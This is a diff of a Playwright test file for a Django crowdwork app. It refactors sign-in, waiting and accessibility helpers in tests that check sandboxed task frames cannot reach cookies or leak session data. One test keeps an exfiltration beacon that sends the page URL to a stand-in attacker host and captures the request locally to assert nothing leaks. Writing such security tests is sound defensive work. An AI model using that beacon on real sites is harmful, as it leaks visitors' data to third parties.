@@ -8,9 +8,12 @@ from time import monotonic
 
 import pytest
 from django.urls import reverse
+from playwright.sync_api import expect
 from tests.builders import a_draft, a_project, taken
 from tests.web import test_tasks_browser
-from tests.web.test_tasks_browser import AXE, PHONE, WIDE, Cast
+from tests.web.looks import WIDE, faults
+from tests.web.test_tasks_browser import Cast, sign_in
+from tests.work.designs.in_browser import QUICKLY_SECONDS, until
 
 from canut.work.models import Assignment, FramePermit, Submission
 
@@ -39,17 +42,10 @@ class Worker:
         self.context.route(re.compile(rf"{EVIL}/.*"), self._elsewhere)
         self.page.on("dialog", lambda dialogue: (self.dialogues.append(dialogue.type), dialogue.dismiss()))
         self.page.on("download", lambda file: self.downloads.append(file.url))
-        self.sign_in(self.page, cast.worker)
+        sign_in(self.context, site, cast.worker)
+        self.page.goto(reverse("my_work"))  # so that there is somewhere to be led back to
         self.address = site + reverse("task", args=[self.assignment.pk])
         self.page.goto(self.address)
-
-    @staticmethod
-    def sign_in(page, person):
-        page.goto(reverse("account_login"))
-        page.fill("input[name=login]", person.username)
-        page.fill("input[name=password]", "correct horse")
-        page.press("input[name=password]", "Enter")
-        page.wait_for_url(lambda url: "login" not in url)
 
     def _elsewhere(self, route):
         request = route.request
@@ -110,7 +106,7 @@ def test_it_has_no_cookies_to_steal(facing, site):
     assert worker.in_frame("return document.cookie") == "SecurityError"
     assert worker.in_frame("document.cookie = 'a=b'") == "SecurityError"
     worker.in_frame(f"new Image().src = '{EVIL}/?' + encodeURIComponent(location.href)")
-    worker.page.wait_for_timeout(300)
+    until(worker.page, lambda: worker.sent)
     ((url, headers),) = worker.sent
     assert "sessionid" not in json.dumps([url, headers])
     assert "referer" not in headers
@@ -280,8 +276,7 @@ def test_it_cannot_say_that_it_has_answered(facing):
     assert len(asked) <= 3
     assert worker.page.is_hidden("[data-framed-done]")
     worker.page.click("[data-hand-in]")
-    worker.page.wait_for_load_state()
-    assert "This needs an answer." in worker.page.inner_text("main")
+    expect(worker.page.locator("main")).to_contain_text("This needs an answer.")
     assert not Submission.objects.exists()
 
 
@@ -427,7 +422,7 @@ def test_a_rows_data_is_never_markup_whoever_wrote_it(facing):
 
 def test_a_worker_fills_in_a_page_and_hands_it_in(facing):
     worker = facing("<p>{{text}}</p><label>Word <input name=word required></label>")
-    assert "Picture 0" in worker.frame.inner_text("body")
+    expect(worker.frame.locator("body")).to_contain_text("Picture 0")
     worker.frame.fill("input", "hello")
     worker.frame.click("button")
     worker.page.wait_for_selector("[data-framed-done]:visible")
@@ -448,9 +443,12 @@ def test_all_of_it_works_with_scripts_off(facing):
     worker.page.frame_locator("iframe[data-frame]").locator("button").click()
     worker.page.frame_locator("iframe[data-frame]").locator("text=These answers are kept").wait_for()
     worker.page.click("text=See whether it has answered")
-    assert "Answered: these answers are handed in with the rest." in worker.page.inner_text("main")
+    expect(worker.page.locator("main")).to_contain_text(
+        "Answered: these answers are handed in with the rest."
+    )
     worker.page.uncheck("input[name=next]")
-    worker.page.click("[data-hand-in]")
+    with worker.page.expect_navigation():
+        worker.page.click("[data-hand-in]")
     assert Submission.objects.get().answer == {"own": {"word": "hello"}}
 
 
@@ -461,27 +459,15 @@ def test_work_in_a_frame_counts_as_active_time(facing):
     worker.page.frame_locator("iframe[data-frame]").locator("input").click()
     for _each in range(12):
         worker.page.clock.run_for(5000)
-    assert int(worker.page.input_value("[data-active-seconds]")) >= 55
+    until(worker.page, lambda: int(worker.page.input_value("[data-active-seconds]") or 0) >= 55)
 
 
-@pytest.mark.parametrize("look", [WIDE, PHONE], ids=["wide", "phone"])
-def test_the_page_around_a_frame_is_accessible_and_no_wider_than_the_screen(facing, look):
-    if not AXE.exists():
-        pytest.skip(f"there is no axe-core in {AXE.parent}")
+def test_the_page_around_a_frame_is_accessible_and_no_wider_than_the_screen(facing):
     worker = facing(
         "<p>{{text}}</p><label>Word <input name=word></label>",
         {"type": "web_page", "url": "https://evil.example/shop", "title": "The shop"},
-        options={"viewport": look},
     )
-    assert not worker.page.evaluate(
-        "document.documentElement.scrollWidth > document.documentElement.clientWidth"
-    )
-    worker.page.evaluate(AXE.read_text())
-    violations = worker.page.evaluate(
-        "axe.run(document, {iframes: false})"
-        ".then((said) => said.violations.map((one) => [one.id, one.nodes[0].html]))"
-    )
-    assert violations == []
+    assert faults(worker.page, "task") == []
 
 
 class Elsewhere(BaseHTTPRequestHandler):
@@ -504,7 +490,7 @@ class Elsewhere(BaseHTTPRequestHandler):
 @pytest.fixture
 def elsewhere():
     server = ThreadingHTTPServer(("127.0.0.1", 0), Elsewhere)
-    threading.Thread(target=server.serve_forever, daemon=True).start()
+    threading.Thread(target=server.serve_forever, args=[QUICKLY_SECONDS], daemon=True).start()
     yield f"http://127.0.0.1:{server.server_port}"
     server.shutdown()
     server.server_close()
@@ -533,10 +519,10 @@ def test_the_preview_shows_the_page_and_keeps_nothing(chromium, site, cast):
     draft = a_draft(owner=cast.requester, design=design("<p>{{text}}</p><input name=word value=x>"))
     context = chromium.new_context(base_url=site, viewport=WIDE)
     page = context.new_page()
-    Worker.sign_in(page, cast.requester)
+    sign_in(context, site, cast.requester)
     page.goto(reverse("project_preview", args=[draft.pk]))
     frame = page.frame_locator("iframe[data-frame]")
-    assert "Picture 0" in frame.locator("body").inner_text()
+    expect(frame.locator("body")).to_contain_text("Picture 0")
     frame.locator("button").click()
     frame.locator("text=kept nowhere").wait_for()
     assert not FramePermit.objects.exists()
